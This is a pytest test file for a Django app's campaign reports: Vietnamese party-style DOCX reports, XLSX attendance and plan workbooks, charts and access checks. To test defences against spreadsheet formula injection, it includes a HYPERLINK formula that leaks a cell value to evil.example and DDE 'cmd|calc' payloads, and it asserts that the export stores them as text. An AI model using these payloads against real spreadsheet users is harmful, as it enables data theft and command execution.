"""Reports out: the XLSX figures and the DOCX party report read back, and the charts on the campaign page."""

from __future__ import annotations

import datetime as dt
import io
import re
import uuid
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.shared import Mm
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quantriet.campaigns import services
from quantriet.campaigns.models import BridgePoint, Campaign, ImplementationPlan, PlanObligation
from quantriet.core.papers import vietnamese_date
from quantriet.orgs.models import Unit
from tests.campaigns.conftest import Setup, local


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


def attended(setup: Setup) -> None:
    """XA's point: An present, Bình made up, Dũng excused; XB's point: Cường absent. XA1 submits its plan."""
    world = setup.world
    an, binh, dung = setup.invite(setup.point_xa, world.m_xa1, world.m_xa2, world.m_dave)
    setup.invite(setup.point_xb, world.m_xb1)
    start = setup.conference.start()
    services.check_in_delegate(
        None, setup.point_xa, an, client_id=uuid.uuid4(), method="name", received_at=start
    )
    session = services.create_makeup_session(None, setup.point_xa, held_on=dt.date(2025, 9, 15))
    services.makeup_check_in(None, session, binh, received_at=local(session.held_on, 9))
    services.record_absence(None, dung, reason="Ốm")
    submit_xa1_plan(setup)


def test_the_workbook_counts_attendance_by_point_and_unit_and_plans_by_unit(setup: Setup) -> None:
    attended(setup)
    response = setup.world.client_for(setup.world.alice).get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Theo điểm cầu", "Theo đơn vị", "Kế hoạch thực hiện"]
    by_point = [list(r) for r in book["Theo điểm cầu"].iter_rows(min_row=2, values_only=True)]
    assert by_point == [
        ["Điểm cầu xã An Hòa", 3, 1, 1, 1, 0, 67],
        ["Điểm cầu xã Bình Minh", 1, 0, 0, 0, 1, 0],
        ["Tổng", 4, 1, 1, 1, 1, 50],
    ]
    by_unit = [list(r)[:6] for r in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)]
    assert by_unit[0] == ["Đảng bộ xã An Hòa › Chi bộ thôn 1", 1, 1, 0, 0, 0]  # with its path
    assert by_unit[1] == ["Đảng bộ xã An Hòa › Chi bộ thôn 2", 2, 0, 1, 1, 0]
    plans = {r[0]: r for r in book["Kế hoạch thực hiện"].iter_rows(min_row=2, values_only=True)}
    assert set(plans) == {  # each unit with its path: a province has many "Chi bộ thôn 1"
        "Đảng bộ xã An Hòa › Chi bộ thôn 1",
        "Đảng bộ xã An Hòa › Chi bộ thôn 2",
        "Đảng bộ xã Bình Minh › Chi bộ thôn 3",
        "Đảng bộ xã An Hòa",
        "Đảng bộ xã Bình Minh",
    }
    assert plans["Đảng bộ xã An Hòa › Chi bộ thôn 1"][1:3] == ("Nộp muộn", "03-KH/CB")
    assert plans["Đảng bộ xã An Hòa › Chi bộ thôn 2"][1] == "Chưa nộp"


def test_the_docx_report_is_laid_out_as_a_party_document(setup: Setup) -> None:
    attended(setup)
    client = setup.world.client_for(setup.world.alice)
    response = client.get(f"/campaigns/{setup.campaign.pk}/report.docx?number=12&place=Thành phố Mẫu")
    assert response.status_code == 200 and "wordprocessingml" in response["Content-Type"]
    document = docx.Document(io.BytesIO(response.content))
    heading = document.tables[0].rows[0].cells
    assert heading[0].text.splitlines() == ["ĐẢNG BỘ TỈNH MẪU", "TỈNH ỦY", "*", "Số 12-BC/TU"]
    right = heading[1].text.splitlines()
    assert right[0] == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert re.fullmatch(r"Thành phố Mẫu, ngày \d\d tháng (0[12]|[3-9]|1[012]) năm \d{4}", right[-1])
    body = "\n".join(p.text for p in document.paragraphs)
    assert "BÁO CÁO" in body
    assert (
        "Thực hiện Nghị quyết số 35-NQ/TW, ngày 22/10/2018 của Trung ương về tăng cường bảo vệ nền tảng tư "
        "tưởng của Đảng, Tỉnh ủy Mẫu đã tổ chức học tập, quán triệt cho toàn thể cán bộ, đảng viên" in body
    )
    for part in ("I. KẾT QUẢ", "II. XÂY DỰNG KẾ HOẠCH", "III. ĐÁNH GIÁ CHUNG", "1. Ưu điểm", "2. Hạn chế"):
        assert part in body
    assert "IV. NHIỆM VỤ THỜI GIAN TỚI VÀ KIẾN NGHỊ" in body and "Tổ chức học bù cho 2 đồng chí" in body
    assert "Tổng số đại biểu được mời: 4; có mặt tại hội nghị: 1; học bù: 1; vắng có lý do: 1" in body
    assert "Tỷ lệ tham dự (kể cả học bù): 50%." in body
    assert "Đã nộp 1/5 đơn vị" in body and "chưa nộp: 4" in body
    points = [[c.text for c in row.cells] for row in document.tables[1].rows]
    assert points[1] == ["Điểm cầu xã An Hòa", "3", "1", "1", "1", "0", "67"]
    recipients, signature = (c.text.splitlines() for c in document.tables[-1].rows[0].cells)
    assert signature[:2] == ["T/M BAN THƯỜNG VỤ", "BÍ THƯ"]
    assert recipients == [
        "Nơi nhận:",
        "- Ban Tuyên giáo và Dân vận Trung ương (để báo cáo),",
        "- Các đảng ủy trực thuộc,",
        "- Lưu Văn phòng Tỉnh ủy.",
    ]


def test_the_docx_report_is_vietnamese_and_dated_at_the_units_locality_whatever_the_interface(
    setup: Setup,
) -> None:
    attended(setup)
    Unit.objects.filter(pk=setup.world.province.pk).update(locality="Mẫu Sơn")
    client = setup.world.client_for(setup.world.alice)
    response = client.get(f"/campaigns/{setup.campaign.pk}/report.docx", HTTP_ACCEPT_LANGUAGE="en")
    document = docx.Document(io.BytesIO(response.content))
    assert document.tables[0].rows[0].cells[1].text.splitlines()[-1].startswith("Mẫu Sơn, ngày ")
    body = "\n".join(p.text for p in document.paragraphs)
    assert "cho toàn thể cán bộ, đảng viên trong Tỉnh ủy Mẫu" in body
    assert " all " not in body and "Như trên" not in body


def test_the_docx_report_is_on_a4_with_the_guides_margins_and_its_tables_fit_the_text(setup: Setup) -> None:
    response = setup.world.client_for(setup.world.alice).get(f"/campaigns/{setup.campaign.pk}/report.docx")
    document = docx.Document(io.BytesIO(response.content))
    (section,) = document.sections

    def mm(length: Any) -> int:  # DOCX stores twentieths of a point: compare whole millimetres
        return round(length.mm)

    assert (mm(section.page_width), mm(section.page_height)) == (210, 297)
    margins = [section.top_margin, section.bottom_margin, section.left_margin, section.right_margin]
    assert [mm(m) for m in margins] == [20, 20, 30, 15]
    text_width = Mm(210 - 30 - 15)
    for table in document.tables:
        widths = [cell.width for cell in table.rows[0].cells]
        assert None not in widths and abs(sum(widths) - text_width) < Mm(1)
    names, *figures = [cell.width for cell in document.tables[1].rows[0].cells]
    assert all(names > 2 * figure for figure in figures)


def test_the_date_line_writes_a_zero_before_days_below_10_and_the_months_1_and_2_only() -> None:
    assert vietnamese_date("Hà Nội", dt.date(2025, 3, 5)) == "Hà Nội, ngày 05 tháng 3 năm 2025"
    assert vietnamese_date("Hà Nội", dt.date(2025, 2, 15)) == "Hà Nội, ngày 15 tháng 02 năm 2025"
    assert vietnamese_date("Hà Nội", dt.date(2025, 12, 1)) == "Hà Nội, ngày 01 tháng 12 năm 2025"


def test_the_campaign_page_draws_attendance_and_plan_charts(setup: Setup) -> None:
    attended(setup)
    html = setup.world.client_for(setup.world.alice).get(f"/campaigns/{setup.campaign.pk}/").content.decode()
    chart = html.split('class="chart attendance-chart"')[1].split("</figure>")[0]
    assert "<svg" in chart and "<script" not in html.split('id="h-charts"')[1]
    widths = re.findall(r'class="bar" x="\d+" y="4" width="(\d+)"', chart)
    assert widths == ["200", "0"]  # 2/3 and 0/1 of a 300-wide bar
    assert "2/3 (67%)" in chart
    plans = html.split('class="chart plans-chart"')[1].split("</figure>")[0]
    assert "1/5 (20%)" in plans  # one late plan out of five units


def test_reports_are_for_the_organisers_only(setup: Setup) -> None:
    attended(setup)
    for user in (setup.world.charlie, setup.world.eve):
        client = setup.world.client_for(user)
        assert client.get(f"/campaigns/{setup.campaign.pk}/report.xlsx").status_code == 404
        assert client.get(f"/campaigns/{setup.campaign.pk}/report.docx").status_code == 404


HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
CALC = "=cmd|' /C calc'!A0"


def owe_plans_everywhere(setup: Setup) -> None:
    """Every unit of the province's scope owes a plan (the organisers' chosen list): five units."""
    world = setup.world
    Campaign.objects.filter(pk=setup.campaign.pk).update(plans_owed_by=PlanObligation.CHOSEN)
    setup.campaign.chosen_plan_units.set([world.xa, world.xa1, world.xa2, world.xb, world.xb1])


def submit_xa1_plan(setup: Setup) -> None:
    owe_plans_everywhere(setup)
    services.submit_plan(
        None,
        setup.campaign,
        setup.world.xa1,
        symbol="03-KH/CB",
        issued_on=dt.date(2025, 9, 12),
        actions_text="Quán triệt | Bí thư | 20/09/2025",
        file_data=b"Ke hoach thuc hien",
        file_name="kh.txt",
    )


def invited_with_a_plan(setup: Setup) -> None:
    """Delegates at both points and XA1's plan, without check-ins (their time window is not at stake)."""
    world = setup.world
    setup.invite(setup.point_xa, world.m_xa1, world.m_xa2)
    setup.invite(setup.point_xb, world.m_xb1)
    submit_xa1_plan(setup)


def test_point_unit_and_plan_text_that_looks_like_a_formula_is_written_as_text(setup: Setup) -> None:
    invited_with_a_plan(setup)
    world = setup.world
    BridgePoint.objects.filter(pk=setup.point_xa.pk).update(name=HYPERLINK)
    Unit.objects.filter(pk=world.xa1.pk).update(name=CALC)
    ImplementationPlan.objects.filter(unit=world.xa1).update(symbol="+1+cmd|' /C calc'!A0", comment="@A1")
    response = world.client_for(world.alice).get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    point = book["Theo điểm cầu"]["A2"]
    assert (point.value, point.data_type) == (HYPERLINK, "s")
    in_path = f"Đảng bộ xã An Hòa › {CALC}"  # units are named with their path
    unit = next(row for row in book["Theo đơn vị"].iter_rows() if row[0].value == in_path)
    assert unit[0].data_type == "s"
    plan = next(row for row in book["Kế hoạch thực hiện"].iter_rows() if row[0].value == in_path)
    assert [(c.value, c.data_type) for c in (plan[0], plan[2], plan[6])] == [
        (in_path, "s"),
        ("+1+cmd|' /C calc'!A0", "s"),
        ("@A1", "s"),
    ]
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_control_characters_already_stored_or_asked_for_do_not_break_the_reports(setup: Setup) -> None:
    invited_with_a_plan(setup)
    world = setup.world
    # Stored before input was cleaned (U+0001 made both reports answer 500 for everyone above).
    Unit.objects.filter(pk__in=[world.province.pk, world.xa1.pk]).update(name="Tỉnh ủy\x01 Mẫu\x0b")
    BridgePoint.objects.filter(pk=setup.point_xa.pk).update(name="Điểm cầu\x02 xã An Hòa")
    Campaign.objects.filter(pk=setup.campaign.pk).update(title="Học tập\x01 Nghị quyết 35")
    ImplementationPlan.objects.filter(unit=world.xa1).update(comment="Sửa\x1f lại")
    client = world.client_for(world.alice)
    workbook = client.get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
    assert workbook.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
    assert book["Theo điểm cầu"]["A2"].value == "Điểm cầu xã An Hòa"
    report = client.get(
        f"/campaigns/{setup.campaign.pk}/report.docx", {"number": "\x00\x01", "place": "\x01"}
    )
    assert report.status_code == 200
    document = docx.Document(io.BytesIO(report.content))
    heading = document.tables[0].rows[0].cells
    assert heading[0].text.splitlines() == ["ĐẢNG BỘ TỈNH MẪU", "TỈNH ỦY", "*", "Số    -BC/TU"]
    assert heading[1].text.splitlines()[-1].startswith("Mẫu, ngày ")  # the place in the unit's name
    body = "\n".join(p.text for p in document.paragraphs)
    assert "Nghị quyết 35-NQ/TW" in body
    assert client.get(f"/campaigns/{setup.campaign.pk}/report.docx?number=%00%01").status_code == 200


# Whatever a row could hold (a database keeps no NUL or lone surrogate, so neither is drawn).
STORED_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(unit_name=STORED_TEXT, point_name=STORED_TEXT, title=STORED_TEXT, number=st.text(max_size=30))
def test_any_stored_name_or_asked_number_gives_both_reports(
    setup: Setup, unit_name: str, point_name: str, title: str, number: str
) -> None:
    Unit.objects.filter(pk__in=[setup.world.province.pk, setup.world.xa1.pk]).update(name=unit_name)
    BridgePoint.objects.filter(pk=setup.point_xa.pk).update(name=point_name)
    Campaign.objects.filter(pk=setup.campaign.pk).update(title=title)
    client = setup.world.client_for(setup.world.alice)
    workbook = client.get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
    assert workbook.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    report = client.get(f"/campaigns/{setup.campaign.pk}/report.docx", {"number": number, "place": number})
    assert report.status_code == 200
    docx.Document(io.BytesIO(report.content))
